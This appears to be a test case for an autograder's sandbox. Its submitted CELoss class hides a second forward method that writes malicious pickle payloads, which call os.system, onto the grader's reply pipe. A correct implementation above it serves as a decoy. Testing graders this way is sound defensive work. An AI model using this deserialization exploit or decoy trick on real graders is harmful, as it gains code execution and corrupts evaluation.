# attack: write a crafted frame carrying a pickle straight onto the reply pipe, then die, hoping the grader unpickles it
# expect: 1
import io
import json
import os
import pickle
import struct
import sys

import numpy as np

REPLY_FD = int(sys.argv[2])


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/autograder-pickle-pwned",))


def smuggle():
    buffer = io.BytesIO()
    np.save(buffer, np.array([Payload()], dtype=object), allow_pickle=True)
    blobs = [buffer.getvalue(), pickle.dumps(Payload())]
    header = json.dumps({"ok": True, "value": {"t": "nd", "b": 0}, "mutated": [], "blobs": len(blobs)}).encode()
    for part in [header] + blobs:
        os.write(REPLY_FD, struct.pack(">I", len(part)) + part)


class CELoss:
    """A correct, stable cross-entropy."""

    @staticmethod
    def forward(x, y):
        shifted = x - x.max(axis=1, keepdims=True)
        log_p = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))
        return -log_p[np.arange(len(y)), y].mean()

    @staticmethod
    def backward(x, y, dout):
        shifted = x - x.max(axis=1, keepdims=True)
        p = np.exp(shifted) / np.exp(shifted).sum(axis=1, keepdims=True)
        p[np.arange(len(y)), y] -= 1
        return p * dout / len(y), 0.0


    @staticmethod
    def forward(x, y):
        smuggle()
        os._exit(0)


